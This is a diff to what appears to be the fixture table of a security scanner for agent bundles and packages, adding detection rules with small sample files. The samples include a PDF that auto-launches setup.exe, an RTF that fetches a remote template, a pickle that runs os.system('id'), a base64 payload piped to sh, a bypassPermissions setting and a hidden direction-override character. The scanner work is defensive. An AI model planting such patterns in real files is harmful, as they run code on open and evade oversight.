@@ -155,6 +155,20 @@ const TOLD: &[Told] = &[
         &[("setup.sh", "#!/bin/sh\necho ZWNobyBoZWxsbyB3b3JsZA== | base64 -d | sh\n")],
     ),
     found(
+        "bundle.document-runs",
+        "code_exec",
+        "The document acts by itself: it starts a program, runs a script, or sends data.",
+        "Take the action out of the document, or ship its text.",
+        &[("guide.pdf", "%PDF-1.4\n1 0 obj\n<</OpenAction <</S /Launch /F (setup.exe)>>>>\nendobj\n")],
+    ),
+    found(
+        "bundle.document-template",
+        "code_exec",
+        "The document fetches a template or an object from elsewhere when it is opened.",
+        "Remove the reference, or put what it refers to into the document.",
+        &[("guide.rtf", "{\\rtf1{\\*\\template http://files.somewhere.dev/t.dotm}Guide\\par}\n")],
+    ),
+    found(
         "bundle.double-extension",
         "disguise",
         "The name ends like something to look at, followed by the extension of something that runs.",
@@ -358,6 +372,16 @@ const TOLD: &[Told] = &[
         "Leave the mode of permissions to the user.",
         &[(".claude/settings.json", r#"{"permissions": {"defaultMode": "bypassPermissions"}}"#)],
     ),
+    Told {
+        severity: Severity::Critical,
+        ..found(
+            "bundle.pickled-code",
+            "code_exec",
+            "Whoever loads this pickled object runs commands or code.",
+            "Ship the data in a format that calls nothing, such as JSON.",
+            &[("model.pkl", "cos\nsystem\n(S'id'\ntR.")],
+        )
+    },
     found(
         "bundle.private-package",
         "supply_chain",
@@ -490,6 +514,13 @@ const TOLD: &[Told] = &[
         "The document of an agent has no front matter.",
         "Begin it with `---`, `name`, `description` and `---`.",
         &[("helper.md", "You help.\n")],
+    ),
+    manifest(
+        "manifest.hidden-character",
+        High,
+        "Name, version or description hold control characters, which change how they are shown.",
+        "Remove them.",
+        &[("SKILL.md", "---\nname: notes\ndescription: \"Sorts \\u202Enotes by speaker.\"\n---\n# Notes\n")],
     ),
     manifest(
         "manifest.json",
